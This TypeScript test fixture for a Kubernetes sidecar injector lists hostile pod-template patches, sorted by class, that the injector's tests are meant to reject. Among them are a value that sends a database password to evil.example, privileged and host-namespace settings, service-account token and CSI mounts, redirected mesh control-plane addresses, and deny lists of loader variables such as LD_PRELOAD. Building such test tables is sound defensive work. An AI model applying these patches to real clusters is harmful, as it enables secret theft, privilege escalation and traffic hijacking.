// What an editor may try on the pods of others, by the class that holds it: the tables that the tests of publishing and of injection
// share.
import type { SourceTree } from "@outrigger/injector";

/** A pod that has something of each kind that can be taken or replaced. */
export const AUTHOR = `
kind: Pod
metadata:
  name: web-5d8f-abcde
  labels: {app: web, version: v1, pod-template-hash: 5d8f, team: shop}
  annotations: {team: shop}
spec:
  automountServiceAccountToken: false
  serviceAccountName: web
  nodeSelector: {pool: a}
  runtimeClassName: gvisor
  volumes:
  - {name: node, hostPath: {path: /run/own}}
  - {name: data, persistentVolumeClaim: {claimName: data}}
  - {name: keys, secret: {secretName: keys}}
  containers:
  - name: web
    image: registry.example/web:1
    readinessProbe: {httpGet: {path: /r, port: 80}}
    volumeMounts: [{name: data, mountPath: /data}]
`;

const SIDECAR = `spec:
  containers:
  - name: istio-proxy
    image: registry.example/proxyv2:1
    env:
    - {name: CA_ADDR, value: 'istiod.istio-system.svc:15012'}
    - {name: PROXY_CONFIG, value: '{"discoveryAddress": "istiod.istio-system.svc:15012"}'}
    volumeMounts:
    - {name: istiod-ca-cert, mountPath: /var/run/secrets/istio}
    - {name: workload-certs, mountPath: /var/run/secrets/workload-spiffe-credentials}
  volumes:
  - {name: istiod-ca-cert, configMap: {name: istio-ca-root-cert}}
  - {name: workload-certs, emptyDir: null}
`;

/** A shipped tree that is small, so that everything can be tried. */
export const SHIPPED: SourceTree = {
  config: "defaultTemplates: [sidecar]\n",
  "templates/sidecar": SIDECAR,
  "samples/web": AUTHOR,
};

const CONFIG = { config: "defaultTemplates: [sidecar, evil]\n" };
export const plainly = (text: string): SourceTree => ({ ...CONFIG, "templates/evil": text });
/** Behind a branch that no sample takes. */
export const hidden = (text: string): SourceTree =>
  plainly(`{{#if (eq (lookup metadata.annotations "evil") "yes")}}\n${text}{{/if}}\n`);

export const spec = (text: string) => `spec:\n  ${text}\n`;
const web = (text: string) => spec(`containers: [{name: web, ${text}}]`);
export const own = (text: string, more = "") =>
  spec(`containers: [{name: own, image: registry.example/own:1, ${text}}]${more}`);
const mounted = (path: string) =>
  `${web(`volumeMounts: [{name: own, mountPath: ${path}}]`)}  volumes: [{name: own, emptyDir: {}}]\n`;
const volume = (text: string) => spec(`volumes: [{name: own, ${text}}]`);
export const token = (audience: string) =>
  own(
    "volumeMounts: [{name: t, mountPath: /var/run/secrets/kubernetes.io/serviceaccount}]",
    `\n  volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: token${audience}}}]}}]`,
  );
export const label = (key: string, value = "x") => `metadata: {labels: {${key}: '${value}'}}\n`;
export const annotation = (key: string, value = "x") => `metadata: {annotations: {${key}: ${JSON.stringify(value)}}}\n`;
export const proxy = (text: string) =>
  spec(`containers: [{name: istio-proxy, image: registry.example/proxyv2:1, ${text}}]`);
const variable = (name: string, value: string) => proxy(`env: [{name: ${name}, value: '${value}'}]`);
const config = (text: string) => variable("PROXY_CONFIG", text);
const secure = (text: string) => own(`securityContext: {${text}}`);
const words = (text: string) => text.split(/\s+/);

/** Variables by which a program loads another one, or trusts another one. */
const VARIABLES =
  words(`LD_PRELOAD LD_LIBRARY_PATH NODE_OPTIONS JAVA_TOOL_OPTIONS PYTHONSTARTUP BASH_ENV PERL5OPT RUBYOPT PATH
  DOTNET_STARTUP_HOOKS HTTP_PROXY HTTPS_PROXY KUBERNETES_SERVICE_HOST AWS_ROLE_ARN AWS_WEB_IDENTITY_TOKEN_FILE
  AWS_ENDPOINT_URL AWS_CONTAINER_CREDENTIALS_FULL_URI SSL_CERT_FILE`);

/** Paths over which nothing of an injection belongs. */
const PATHS = words(`/usr/local/bin /var/run/secrets/kubernetes.io/serviceaccount /etc /etc/passwd /lib /proc / /home
  /var/run/secrets/eks.amazonaws.com/serviceaccount /etc/istio/../ssl /var/logs`);

/** Variables by which the mesh's proxy runs another program, trusts another authority, gives its keys away or leaves traffic alone. */
const PROXY_VARIABLES =
  words(`LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT ISTIO_BOOTSTRAP ISTIO_BOOTSTRAP_OVERRIDE ISTIO_OUTBOUND_OWNER_GROUPS
  ISTIO_OUTBOUND_OWNER_GROUPS_EXCLUDE ISTIOD_SAN OUTPUT_CERTS OUTPUT_KEY_CERT_TO_DIRECTORY PROV_CERT FILE_MOUNTED_CERTS JWT_POLICY
  CREDENTIAL_FETCHER_TYPE SSL_CERT_FILE SSL_CERT_DIR HTTP_PROXY HTTPS_PROXY ALL_PROXY KUBERNETES_SERVICE_HOST TOKEN_AUDIENCES
  GODEBUG WASM_INSECURE_REGISTRIES ISTIO_META_TLS_CLIENT_ROOT_CERT XDS_LOCAL`);

/** Annotations that controllers other than Istio's obey. */
/** Labels by which controllers find the pods that they change, give an identity or let through. */
const OBEYED_LABELS = words(`admission.datadoghq.com/enabled sidecar.opentelemetry.io/inject linkerd.io/inject
  vault.hashicorp.com/agent-inject tags.datadoghq.com/service kuma.io/sidecar-injection dapr.io/enabled
  cilium.io/no-track-port projectcalico.org/orchestrator spiffe.io/spiffe-id policy.sigstore.dev/exclude
  kueue.x-k8s.io/queue-name karpenter.sh/do-not-disrupt topology.kubernetes.io/zone evil.example/a.istio.io`);

const OBEYED =
  words(`vault.hashicorp.com/agent-inject vault.hashicorp.com/role vault.hashicorp.com/agent-inject-secret-db
  vault.hashicorp.com/agent-image vault.security.banzaicloud.io/vault-addr bank-vaults.io/vault-role secrets.doppler.com/reload
  instrumentation.opentelemetry.io/inject-java instrumentation.opentelemetry.io/inject-python
  instrumentation.opentelemetry.io/inject-sdk sidecar.opentelemetry.io/inject admission.datadoghq.com/java-lib.version
  admission.datadoghq.com/python-lib.custom-image ad.datadoghq.com/web.checks ad.datadoghq.com/web.logs linkerd.io/inject
  config.linkerd.io/proxy-image config.linkerd.io/skip-outbound-ports viz.linkerd.io/tap-enabled consul.hashicorp.com/connect-inject
  consul.hashicorp.com/envoy-extra-args kuma.io/sidecar-injection dapr.io/enabled dapr.io/sidecar-image
  cert-manager.io/inject-ca-from external-dns.alpha.kubernetes.io/hostname cluster-autoscaler.kubernetes.io/safe-to-evict
  karpenter.sh/do-not-disrupt descheduler.alpha.kubernetes.io/evict goldilocks.fairwinds.com/enabled
  backup.velero.io/backup-volumes pre.hook.backup.velero.io/command post.hook.restore.velero.io/command
  reloader.stakater.com/auto io.cilium/no-track-port network.azure.com/allow cni.projectcalico.org/ipAddrs
  kubernetes.io/psp dynatrace.com/inject oneagent.dynatrace.com/inject evil-istio.io/a istio.io.evil.example/a`);

/** CSI drivers that bring what the pod's identity, or the node's, may read. */
const DRIVERS = words(`secrets-store.csi.k8s.io csi.vault.hashicorp.com efs.csi.aws.com s3.csi.aws.com fsx.csi.aws.com
  ebs.csi.aws.com file.csi.azure.com smb.csi.k8s.io nfs.csi.k8s.io csi.cert-manager.io`);

/** Volumes that are the proxy's own. */
const IDENTITY =
  words(`istio-token istio-podinfo workload-socket credential-socket workload-certs istio-certs istio-data
  istio-envoy`);

/** Types of volumes that are of the node, of the network, or of another driver. */
const VOLUMES = [
  "hostPath: {path: /run/own}",
  "nfs: {server: a, path: /}",
  "azureFile: {shareName: a, secretName: web}",
  "flexVolume: {driver: a/b, secretRef: {name: web}}",
  "cephfs: {monitors: [a], secretRef: {name: web}}",
  "ephemeral: {volumeClaimTemplate: {spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}}",
  "awsElasticBlockStore: {volumeID: a}",
  "azureDisk: {diskName: a, diskURI: 'https://a'}",
  "cinder: {volumeID: a}",
  "fc: {targetWWNs: [a], lun: 1}",
  "flocker: {datasetName: a}",
  "gcePersistentDisk: {pdName: a}",
  "gitRepo: {repository: 'https://evil.example/a'}",
  "glusterfs: {endpoints: a, path: b}",
  "iscsi: {targetPortal: a, iqn: 'iqn.2001-04.com.example:a', lun: 1}",
  "portworxVolume: {volumeID: a}",
  "quobyte: {registry: 'a:1', volume: b}",
  "rbd: {monitors: [a], image: b}",
  "scaleIO: {gateway: a, system: b, volumeName: c, secretRef: {name: web}}",
  "storageos: {volumeName: a, secretRef: {name: web}}",
  "vsphereVolume: {volumePath: a}",
].map(volume);

/** What a container that is sent to a webhook always has: the author's stays, as in every container that a template writes too. */
export const KEPT: readonly string[] = [web("imagePullPolicy: Always"), web("terminationMessagePath: /data/x")];

/** The class that holds it → what is tried. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  "author-changed": [
    ...words(
      "app version pod-template-hash pod-template-generation controller-revision-hash controller-uid job-name",
    ).map((key) => label(key)),
    label("batch.kubernetes.io/job-name"),
    label("statefulset.kubernetes.io/pod-name"),
    label("security.istio.io/tlsMode", "disabled"),
    label("team"),
    "metadata: {labels: {app: null}}\n",
    annotation("team"),
    "metadata: {annotations: {team: null}}\n",
    spec("runtimeClassName: runc"),
    spec("runtimeClassName: null"),
    spec("nodeSelector: {pool: b}"),
    spec("nodeSelector: null"),
    ...words("OTEL_JAVAAGENT_EXTENSIONS OTEL_DOTNET_AUTO_PLUGINS OTEL_PYTHON_CONFIGURATOR DD_DOTNET_TRACER_HOME").map(
      (name) => web(`env: [{name: ${name}, value: /x}]`),
    ),
    ...["$(DB_PASSWORD)", "http://evil.example/$(DB_PASSWORD)", "$$$(DB_PASSWORD)"].map((value) =>
      web(`env: [{name: OTEL_EXPORTER_OTLP_ENDPOINT, value: '${value}'}]`),
    ),
    web("env: [{name: OTEL_EXPORTER_OTLP_HEADERS, valueFrom: {secretKeyRef: {name: mesh-db, key: a}}}]"),
    web("env: [{name: OTEL_RESOURCE_ATTRIBUTES, valueFrom: {configMapKeyRef: {name: db, key: a}}}]"),
    ...VARIABLES.map((name) => web(`env: [{name: ${name}, value: /x}]`)),
    ...PATHS.map(mounted),
    web("envFrom: [{configMapRef: {name: evil}}]"),
    web("command: [sh]"),
    web("args: [evil]"),
    web("workingDir: /tmp"),
    web("tty: true"),
    web("stdin: true"),
    web("imagePullPolicy: Always"),
    web("resources: {limits: {memory: 8Mi}}"),
    web("resources: {limits: {ephemeral-storage: 8Mi}}"),
    web("livenessProbe: {exec: {command: ['false']}}"),
    web("lifecycle: {preStop: {httpGet: {host: evil.example, path: /, port: 80}}}"),
    web("lifecycle: {postStart: {exec: {command: [evil]}}}"),
    web("ports: [{containerPort: 81}]"),
    web("ports: [{containerPort: 80, hostPort: 80}]"),
    web("securityContext: {runAsNonRoot: true}"),
    web("securityContext: {privileged: true}"),
    web("terminationMessagePath: /data/x"),
    web("volumeMounts: [{name: keys, mountPath: /keys}]"),
    web("volumeMounts: [{name: data, mountPath: /data, readOnly: true}]"),
    `${web("volumeDevices: [{name: own, devicePath: /dev/x}]")}  volumes: [{name: own, persistentVolumeClaim: {claimName: own}}]\n`,
    spec("volumes: [{name: data, persistentVolumeClaim: null, emptyDir: {}}]"),
    spec("volumes: [{name: data, persistentVolumeClaim: {readOnly: true}}]"),
    spec("volumes: [{name: node, hostPath: {path: /}}]"),
    spec("volumes: [{name: keys, secret: {secretName: other}}]"),
    spec("volumes: [{name: keys, $patch: delete}]"),
  ],
  "pod-may-not-run": [
    "metadata: {finalizers: [evil.example/never]}\n",
    annotation("scheduler.alpha.kubernetes.io/critical-pod", ""),
    spec("schedulingGates: [{name: evil.example/never}]"),
    spec("activeDeadlineSeconds: 1"),
    spec("nodeName: node-1"),
    spec("restartPolicy: Never"),
    spec("dnsConfig: {nameservers: [192.0.2.1]}"),
    spec("dnsConfig: {searches: [evil.example]}"),
    spec("dnsPolicy: Default"),
    spec("tolerations: [{operator: Exists}]"),
    spec("affinity: {nodeAffinity: {}}\n  schedulerName: evil"),
    spec("preemptionPolicy: Never"),
    spec("priorityClassName: system-node-critical\n  priority: 2000001000"),
    spec("hostname: evil"),
    spec("subdomain: evil"),
    spec("setHostnameAsFQDN: true"),
    spec("enableServiceLinks: false"),
    spec("os: {name: windows}"),
    spec("readinessGates: [{conditionType: evil.example/never}]"),
    spec("topologySpreadConstraints: [{maxSkew: 1, topologyKey: zone, whenUnsatisfiable: DoNotSchedule}]"),
    spec("securityContext: {fsGroup: 0}"),
    spec("securityContext: {supplementalGroups: [0]}"),
    spec("securityContext: {runAsNonRoot: true}"),
    spec("securityContext: {runAsUser: 0}"),
    spec("resources: {limits: {cpu: '8'}}"),
  ],
  "privileges-widened": [
    ...words("hostPID hostIPC hostNetwork shareProcessNamespace hostUsers").map((field) => spec(`${field}: true`)),
    spec("serviceAccountName: admin"),
    spec("automountServiceAccountToken: true"),
    spec("securityContext: {sysctls: [{name: kernel.msgmax, value: '1'}]}"),
    spec("securityContext: {seccompProfile: {type: Unconfined}}"),
    spec("securityContext: {seLinuxOptions: {type: spc_t}}"),
    spec("securityContext: {seLinuxOptions: {role: system_r}}"),
    annotation("container.apparmor.security.beta.kubernetes.io/web", "unconfined"),
    annotation("seccomp.security.alpha.kubernetes.io/pod", "unconfined"),
    ...VOLUMES,
    ...OBEYED.map((key) => annotation(key)),
    ...OBEYED_LABELS.map((key) => label(key)),
    secure("privileged: true"),
    secure("capabilities: {add: [SYS_ADMIN]}"),
    secure("capabilities: {add: [ALL]}"),
    `${secure("procMount: Unmasked")}  hostUsers: false\n`,
    secure("seccompProfile: {type: Unconfined}"),
    secure("appArmorProfile: {type: Unconfined}"),
    secure("seLinuxOptions: {user: system_u}"),
    secure("capabilities: {add: [NET_RAW]}"),
    own("ports: [{containerPort: 80, hostPort: 80}]"),
    own("readinessProbe: {httpGet: {host: 192.0.2.1, path: /, port: 80}}"),
    own("lifecycle: {postStart: {tcpSocket: {host: 192.0.2.1, port: 80}}}"),
    own("resources: {limits: {hugepages-2Mi: 64Mi, memory: 1Gi, cpu: '1'}}"),
    own(
      "volumeMounts: [{name: own, mountPath: /own, mountPropagation: HostToContainer}]",
      "\n  volumes: [{name: own, emptyDir: {}}]",
    ),
  ],
  "identity-used": [
    token(""),
    token(", audience: sts.amazonaws.com"),
    token(", audience: sts.amazonaws.com.cn"),
    token(", audience: https://kubernetes.default.svc"),
    annotation("iam.amazonaws.com/role", "arn:aws:iam::123456789012:role/evil"),
    annotation("eks.amazonaws.com/role-arn", "arn:aws:iam::123456789012:role/evil"),
    annotation("eks.amazonaws.com/skip-containers", "own"),
    label("azure.workload.identity/use", "true"),
    spec("resourceClaims: [{name: own, resourceClaimName: other}]"),
    ...DRIVERS.map((driver) => volume(`csi: {driver: ${driver}}`)),
    ...IDENTITY.map((name) =>
      own(`volumeMounts: [{name: ${name}, mountPath: /own}]`, `\n  volumes: [{name: ${name}, emptyDir: {}}]`),
    ),
    own(
      "volumeMounts: [{name: t, mountPath: /t}]",
      "\n  volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t, audience: istio-ca}}]}}]",
    ),
    own(
      "volumeMounts: [{name: s, mountPath: /s}]",
      "\n  volumes: [{name: s, csi: {driver: csi.spiffe.io, readOnly: true}}]",
    ),
    volume("persistentVolumeClaim: {claimName: other}"),
    volume("projected: {sources: [{podCertificate: {signerName: a/b, keyType: ED25519, keyPath: k}}]}"),
    secure("windowsOptions: {gmsaCredentialSpecName: other}"),
    own("volumeMounts: [{name: keys, mountPath: /keys}]"),
    own("volumeMounts: [{name: data, mountPath: /data}]"),
    own("volumeMounts: [{name: node, mountPath: /node}]"),
  ],
  "control-plane-address": [
    annotation("proxy.istio.io/config", "discoveryAddress: evil.example:15012"),
    ...[
      '{"discovery_address": "evil.example:15012"}',
      "discoveryAddress: evil.example:15012",
      '{"binaryPath": "/tmp/evil"}',
      '{"custom_config_file": "/tmp/evil"}',
      '{"proxyBootstrapTemplatePath": "/tmp/evil"}',
      '{"caCertificatesPem": ["evil"]}',
      '{"proxyMetadata": {"XDS_ROOT_CA": "evil.example:15012"}}',
      '{"proxy_metadata": {"CA_PROVIDER": "evil"}}',
    ].map(config),
    ...words("XDS_ROOT_CA CA_ROOT_CA CA_ADDR CA_PROVIDER PILOT_CERT_PROVIDER XDS_AUTH_PROVIDER").map((name) =>
      variable(name, "/tmp/evil"),
    ),
    spec("hostAliases: [{ip: 192.0.2.1, hostnames: [istiod.istio-system.svc]}]"),
    ...PROXY_VARIABLES.map((name) => variable(name, "/tmp/evil")),
    ...PROXY_VARIABLES.map((name) => config(JSON.stringify({ proxyMetadata: { [name]: "/tmp/evil" } }))),
    config('{"privateKeyProvider": {"cryptomb": {}}}'),
    config('{"readinessProbe": {"exec": {"command": ["evil"]}}}'),
    proxy("env: [{name: ISTIO_META_A, valueFrom: {secretKeyRef: {name: mesh-db, key: a}}}]"),
    proxy("env: [{name: ISTIO_META_A, valueFrom: {configMapKeyRef: {name: db, key: a}}}]"),
    proxy("envFrom: [{secretRef: {name: mesh-db}}]"),
    proxy("envFrom: [{configMapRef: {name: db}}]"),
    proxy("command: [sh, -c, evil]"),
    proxy("workingDir: /tmp"),
    proxy("stdin: true"),
    proxy("args: [evil]"),
    proxy("args: [proxy, evil]"),
    proxy("args: [proxy, sidecar, '--templateFile=/tmp/evil']"),
    proxy("args: [proxy, sidecar, --domain, a, evil]"),
    proxy("lifecycle: {postStart: {exec: {command: [sh, -c, evil]}}}"),
    proxy("lifecycle: {preStop: {exec: {command: [sleep, '5; evil']}}}"),
    proxy("livenessProbe: {exec: {command: [evil]}}"),
    `${proxy("volumeMounts: [{name: x, mountPath: /usr/local/bin}]")}  volumes: [{name: x, emptyDir: {}}]\n`,
    `${proxy("volumeMounts: [{name: x, mountPath: /var/run/secrets/tokens}]")}  volumes: [{name: x, emptyDir: {}}]\n`,
    ...["istio-init", "istio-validation"].flatMap((name) => [
      spec(`initContainers: [{name: ${name}, image: registry.example/own:1, command: [iptables, '-t', nat]}]`),
      spec(`initContainers: [{name: ${name}, image: registry.example/own:1, args: [istio-iptables, --cleanup-only]}]`),
      spec(
        `initContainers: [{name: ${name}, image: registry.example/own:1, args: [istio-iptables, '-x', 10.0.0.0/8, --to-ports, '1']}]`,
      ),
    ]),
    spec("volumes: [{name: istiod-ca-cert, configMap: {name: evil}}]"),
    spec("volumes: [{name: workload-certs, configMap: {name: evil}}]"),
  ],
};

/** All attacks, each with the name of its class. */
export const CASES = Object.entries(ATTACKS).flatMap(([name, texts]) => texts.map((text) => ({ name, text })));

/** What leaves traffic of a pod's past its proxy: held where it is published, and admitted by guardrails, which are about power. */
export const CAPTURE: readonly string[] = [
  annotation("traffic.sidecar.istio.io/includeOutboundIPRanges", "10.0.0.0/8"),
  annotation("traffic.sidecar.istio.io/excludeOutboundIPRanges", "0.0.0.0/0"),
  annotation("traffic.sidecar.istio.io/includeInboundPorts", ""),
  annotation("sidecar.istio.io/interceptionMode", "NONE"),
  annotation("k8s.v1.cni.cncf.io/networks", "other"),
  variable("ISTIO_META_INTERCEPTION_MODE", "NONE"),
  secure("runAsUser: 1337"),
  secure("runAsGroup: 1337"),
];

/** What the proxy has anyway, and gets another value: it is compared where a sample reaches it. */
export const COMPARED = /istiod-ca-cert|workload-certs, configMap|name: (?:CA_ADDR|PILOT_CERT_PROVIDER)/;
